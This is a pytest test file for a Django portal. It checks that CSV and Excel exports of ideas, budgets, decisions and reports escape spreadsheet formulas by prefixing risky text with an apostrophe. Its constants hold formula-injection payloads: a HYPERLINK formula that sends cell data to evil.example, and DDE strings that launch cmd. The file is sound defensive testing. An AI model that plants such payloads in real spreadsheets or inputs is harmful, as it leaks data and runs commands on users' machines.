"""No export runs what people typed (issue 17, finding 4): a title like ``=HYPERLINK(...)`` reaches
the office's spreadsheet as text, not as a formula.

Every CSV and Excel file of the portal (the admin's ideas, budgets and stuurgroep decisions, and
the report page) puts an apostrophe before text that starts with =, +, -, @, a tab or a CR, as
OWASP advises; in Excel such text is a string cell, and the sheet's XML holds no formula at all.
Amounts and dates are the portal's own: they stay real numbers and dates (in CSV an amount keeps
its decimal comma and a minus sign, without an apostrophe)."""

import csv
import io
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest
import tablib
from django.urls import reverse
from django.utils import timezone

from budgets import services as budget_services
from ideas import services
from ideas.models import Kind
from smederijen.exports import file_response
from tests.budgets.conftest import THIS_YEAR
from tests.factories import SmederijFactory
from tests.ideas import test_transitions
from tests.ideas.conftest import organisations, owner, people  # noqa: F401 (fixtures of world)
from tests.ideas.factories import submitted_idea

pytestmark = pytest.mark.django_db

world = test_transitions.world

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"
PHONE = "+31 6 12345678 belt terug over de barbecue"
MINUS = "-2+3+cmd|' /C calc'!A0"


def signed_in_office(client, world):
    client.force_login(world["users"]["ondersteuning"])
    return client


def admin_export(client, url: str, fmt: str, pks) -> bytes:
    response = client.post(
        url, {"action": f"export_{fmt}", "_selected_action": [str(pk) for pk in pks]}
    )
    assert response.status_code == 200
    assert response["Content-Disposition"].endswith(f'.{fmt}"')
    return response.content


def csv_rows(content: bytes) -> dict[str, list[str]]:
    """The rows of a CSV file by their first cell, read as Dutch spreadsheets read it."""
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    return {row[0]: row for row in rows}


def xlsx_rows(content: bytes) -> dict[str, list]:
    """The cells of an Excel file by the value of their first cell; the sheet holds no formula."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                xml = archive.read(name).decode()
                assert not re.search(r"<f[\s>/]", xml), f"a formula in {name}"
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return {row[0].value: list(row) for row in sheet.iter_rows()}


def assert_text(cell, text: str) -> None:
    """An Excel cell that holds ``text`` as a string."""
    assert (cell.value, cell.data_type) == (text, "s")


def assert_number(cell, value) -> None:
    assert cell.data_type == "n" and not cell.is_date
    assert Decimal(str(cell.value)) == Decimal(value)


def assert_date(cell, value: date) -> None:
    assert cell.is_date and isinstance(cell.value, datetime)
    assert cell.value.date() == value


TITLES = [HYPERLINK, DDE, PHONE, MINUS, "Picknicktafels bij de vijver"]


@pytest.fixture
def ideas(world):
    """Ideas whose titles a spreadsheet would run, and one it would not; contact details that
    look like formulas too (the export leaves them out)."""
    return [
        submitted_idea(
            smederij=world["krakeel"],
            title=title,
            contact_name="@Jan Jansen",
            contact_phone="+31 6 98765432",
            amount_requested=Decimal("750.00"),
        )
        for title in TITLES
    ]


def safe(title: str) -> str:
    return title if title == TITLES[-1] else "'" + title


def test_the_ideas_csv_export_writes_titles_as_text(world, client, ideas):
    signed_in_office(client, world)

    content = admin_export(client, "/beheer/ideas/idea/", "csv", [idea.pk for idea in ideas])

    rows = csv_rows(content)
    for idea in ideas:
        _reference, title, area, _kind, _status, submitted, due, asked, *_money, _published = rows[
            idea.reference
        ]
        assert title == safe(idea.title)
        assert area == "Krakeel"
        assert submitted == timezone.localdate(idea.submitted_at).isoformat()
        assert due == idea.decision_due.isoformat()
        assert asked == "750,00"
    assert b"Jan Jansen" not in content and b"98765432" not in content  # no contact details


def test_the_ideas_excel_export_writes_titles_as_strings(world, client, ideas):
    signed_in_office(client, world)

    content = admin_export(client, "/beheer/ideas/idea/", "xlsx", [idea.pk for idea in ideas])

    rows = xlsx_rows(content)
    for idea in ideas:
        row = rows[idea.reference]
        assert_text(row[1], safe(idea.title))
        assert_date(row[5], timezone.localdate(idea.submitted_at))
        assert_date(row[6], idea.decision_due)
        assert_number(row[7], "750.00")


def test_the_budgets_export_writes_an_area_name_as_text(world, client):
    area = SmederijFactory(name="=1+1 Dorp", slug="formule")
    budget = budget_services.open_budget(
        area, THIS_YEAR, "1250.50", actor=world["users"]["ondersteuning"]
    )
    signed_in_office(client, world)
    pks = [budget.pk, world["budget"].pk]

    rows = csv_rows(admin_export(client, "/beheer/budgets/budget/", "csv", pks))
    assert rows["'=1+1 Dorp"][1:4] == [str(THIS_YEAR), "1250,50", "0,00"]
    assert rows["Krakeel"][2] == "1000,00"

    rows = xlsx_rows(admin_export(client, "/beheer/budgets/budget/", "xlsx", pks))
    row = rows["'=1+1 Dorp"]
    assert_text(row[0], "'=1+1 Dorp")
    assert_number(row[1], THIS_YEAR)
    assert_number(row[2], "1250.50")
    assert_number(row[6], "1250.50")


def test_the_decisions_export_writes_title_and_reason_as_text(world, client):
    member = world["users"]["wijkteam_a"]
    plan = submitted_idea(smederij=world["krakeel"], kind=Kind.LANGE_KLAP, title=HYPERLINK)
    plan = services.send_to_stuurgroep(services.take_up(plan, actor=member), actor=member)
    meeting = test_transitions.meeting_for(world, plan)
    decision = services.decide(
        plan,
        meeting,
        actor=world["users"]["chair"],
        outcome="positief",
        public_reason=MINUS,
        votes_for=2,
        votes_against=0,
    )
    on = timezone.localdate(meeting.starts_at)
    signed_in_office(client, world)
    url = "/beheer/ideas/stuurgroepdecision/"

    reference, plan_title, meeting_date, _outcome, *votes, reason = csv_rows(
        admin_export(client, url, "csv", [decision.pk])
    )[plan.reference]
    assert (plan_title, reason) == ("'" + HYPERLINK, "'" + MINUS)
    assert meeting_date == on.isoformat() and votes == ["2", "0", "0"]

    row = xlsx_rows(admin_export(client, url, "xlsx", [decision.pk]))[plan.reference]
    assert_text(row[1], "'" + HYPERLINK)
    assert_text(row[7], "'" + MINUS)
    assert_date(row[2], on)
    assert_number(row[4], 2)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_report_export_writes_an_area_name_as_text(world, client, fmt):
    SmederijFactory(name="@Buurt 2+2", slug="at-buurt")
    signed_in_office(client, world)

    response = client.get(reverse("ideas:report-export", args=[fmt]), {"jaar": THIS_YEAR})

    assert response.status_code == 200
    if fmt == "csv":
        rows = csv_rows(response.content)
        assert rows["'@Buurt 2+2"][1] == "0"
        assert rows["Krakeel"][5:] == ["1000,00", "0,00", "0,00", "0,00", "1000,00"]
    else:
        rows = xlsx_rows(response.content)
        assert_text(rows["'@Buurt 2+2"][0], "'@Buurt 2+2")
        assert_number(rows["'@Buurt 2+2"][1], 0)
        assert_number(rows["Krakeel"][5], "1000.00")


def test_every_risky_start_is_neutralised_and_numbers_and_dates_are_kept():
    """The one writer of export files, with what no form lets through (tab, CR, control
    characters) and what the ledger could hold (a negative amount)."""
    data = tablib.Dataset(headers=["Tekst", "Bedrag", "Aantal", "Datum"], title="Proef")
    data.append(["\t=1+1", Decimal("-12.50"), -3, date(2026, 3, 31)])
    data.append(["\r=1+1", Decimal("0.00"), 0, None])
    data.append(["#N/A", None, 7, date(2026, 1, 1)])
    data.append(["a\x0bb\nc", Decimal("1234.56"), 1, date(2026, 1, 2)])
    data.append(["-12,50", Decimal("1.00"), 1, date(2026, 1, 3)])

    text = file_response(data, "csv", "proef").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[1:] == [
        ["'\t=1+1", "-12,50", "-3", "2026-03-31"],
        ["'\r=1+1", "0,00", "0", ""],
        ["#N/A", "", "7", "2026-01-01"],
        ["ab\nc", "1234,56", "1", "2026-01-02"],
        ["'-12,50", "1,00", "1", "2026-01-03"],  # typed by someone: text, so neutralised
    ]

    sheet = list(xlsx_rows(file_response(data, "xlsx", "proef").content).values())
    assert_text(sheet[1][0], "'\t=1+1")
    assert_number(sheet[1][1], "-12.50")
    assert_number(sheet[1][2], -3)
    assert_date(sheet[1][3], date(2026, 3, 31))
    assert_text(sheet[3][0], "#N/A")  # text, not an error value
    assert_text(sheet[4][0], "ab\nc")
    assert_text(sheet[5][0], "'-12,50")
